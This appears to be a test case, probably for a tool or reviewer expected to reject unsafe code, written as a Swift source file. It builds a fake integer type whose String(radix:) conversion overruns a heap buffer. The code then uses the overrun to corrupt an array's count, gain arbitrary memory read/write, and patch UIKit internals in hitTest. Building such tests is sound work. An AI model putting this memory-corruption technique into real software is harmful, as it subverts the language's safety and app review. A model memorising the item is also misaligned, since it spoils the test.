// Attack: (conformance by an empty extension to a composition, witnesses in a protocol extension) an integer of its own says that it has fewer digits than it gives: Swift writes them into a block for as many as it says, without a check, and goes on before the block, over a list's count.
// Exercise: 3
// Expect: notAccepted
// Held by: what the compiler resolved
import UIKit

final class Mark {
    var first = 0x7_1234_5678_9abc
    var number: Int
    init(_ number: Int) { self.number = number }
}

/// String(_:radix:) of an integer with more than 64 bits makes room for bitWidth digits (more than 1024: on the heap),
/// and writes `self & 1` from the end to the start, until `self >> 1` is zero.
protocol Digits { var value: Int { get set }
    init(value: Int) }
extension Digits where Self: BinaryInteger & Named {
    static var isSigned: Bool { false }
    var words: [UInt] { [5, 7] }
    var bitWidth: Int { 1032 }
    var trailingZeroBitCount: Int { 0 }
    var magnitude: Self { self }
    var description: String { "" }
    init(_ value: Int) { self.init(value: value) }
    init(integerLiteral value: Int) { self.init(value: value) }
    init<T: BinaryInteger>(_ source: T) { self.init(value: Int(truncatingIfNeeded: source)) }
    init<T: BinaryInteger>(truncatingIfNeeded source: T) { self.init(value: Int(truncatingIfNeeded: source)) }
    init<T: BinaryInteger>(clamping source: T) { self.init(value: Int(truncatingIfNeeded: source)) }
    init?<T: BinaryInteger>(exactly source: T) { self.init(value: Int(truncatingIfNeeded: source)) }
    init?<T: BinaryFloatingPoint>(exactly source: T) { self.init(value: 0) }
    init<T: BinaryFloatingPoint>(_ source: T) { self.init(value: 0) }
    func quotientAndRemainder(dividingBy other: Self) -> (quotient: Self, remainder: Self) { (Self(value: Memory.next()), Self(value: 0)) }
    func signum() -> Self { Self(value: 1) }
    static func / (a: Self, b: Self) -> Self { Self(value: Memory.next()) }
    static func % (a: Self, b: Self) -> Self { Self(value: 0) }
    static func + (a: Self, b: Self) -> Self { a }
    static func - (a: Self, b: Self) -> Self { a }
    static func * (a: Self, b: Self) -> Self { a }
    static func & (a: Self, b: Self) -> Self { Self(value: 0) }
    static func | (a: Self, b: Self) -> Self { a }
    static func ^ (a: Self, b: Self) -> Self { a }
    static func += (a: inout Self, b: Self) {}
    static func -= (a: inout Self, b: Self) {}
    static func *= (a: inout Self, b: Self) {}
    static func /= (a: inout Self, b: Self) { a = Self(value: Memory.next()) }
    static func %= (a: inout Self, b: Self) {}
    static func &= (a: inout Self, b: Self) { a = Self(value: 0) }
    static func |= (a: inout Self, b: Self) {}
    static func ^= (a: inout Self, b: Self) {}
    static prefix func ~ (a: Self) -> Self { a }
    static func << <R: BinaryInteger>(a: Self, b: R) -> Self { a }
    static func >> <R: BinaryInteger>(a: Self, b: R) -> Self { Self(value: Memory.next()) }
    static func <<= <R: BinaryInteger>(a: inout Self, b: R) {}
    static func >>= <R: BinaryInteger>(a: inout Self, b: R) { a = Self(value: Memory.next()) }
    static func < (a: Self, b: Self) -> Bool { a.value < b.value }
    static func == (a: Self, b: Self) -> Bool { a.value == b.value }
    func hash(into hasher: inout Hasher) {}
    func distance(to other: Self) -> Int { 1 }
    func advanced(by n: Int) -> Self { self }
}

protocol Named {}
struct Long: Digits, Hashable {
    typealias Words = [UInt]
    typealias Magnitude = Long
    typealias IntegerLiteralType = Int
    typealias Stride = Int
    var value: Int
}
extension Long: BinaryInteger & Named {}

enum Memory {
    nonisolated(unsafe) static var marks: [Mark] = []
    nonisolated(unsafe) static var lists: [[Int]] = []
    nonisolated(unsafe) static var found = -1
    nonisolated(unsafe) static var digits = 0
    nonisolated(unsafe) static var base: UInt = 0

    /// Called after each digit: until a list's count is written over. Then the block's size, which lies behind that
    /// list, is mended.
    static func next() -> Int {
        digits += 1
        if digits > 2_000, found < 0 {
            for index in lists.indices where lists[index].count > 125 {
                found = index
                lists[index][125] = 0x411
            }
        }
        return found >= 0 || digits > 4_000 ? 0 : 5
    }

    static func prepare() {
        lists.reserveCapacity(100)
        for number in 0..<64 { lists.append(Array(repeating: number, count: 125)) }
        _ = String(Long(value: 5), radix: 2)
        guard found >= 0 else { return }
        for number in 0..<4_000 { marks.append(Mark(number)) }
        var index = 126
        while lists[found][index] != 0x7_1234_5678_9abc { index += 1 }
        let mark = marks[lists[found][index + 1]]
        base = UInt(bitPattern: ObjectIdentifier(mark)) &+ 16 &- UInt(index) << 3
    }

    static subscript(address: UInt) -> Int {
        get { lists[found][Int((address &- base) >> 3)] }
        set { lists[found][Int((address &- base) >> 3)] = newValue }
    }
    static let kinds: UInt = {
        prepare()
        return UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23278
    }()
    nonisolated(unsafe) static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Memory[Memory.kinds] = Memory.old
        return super.point(inside: point, with: event)
    }
}
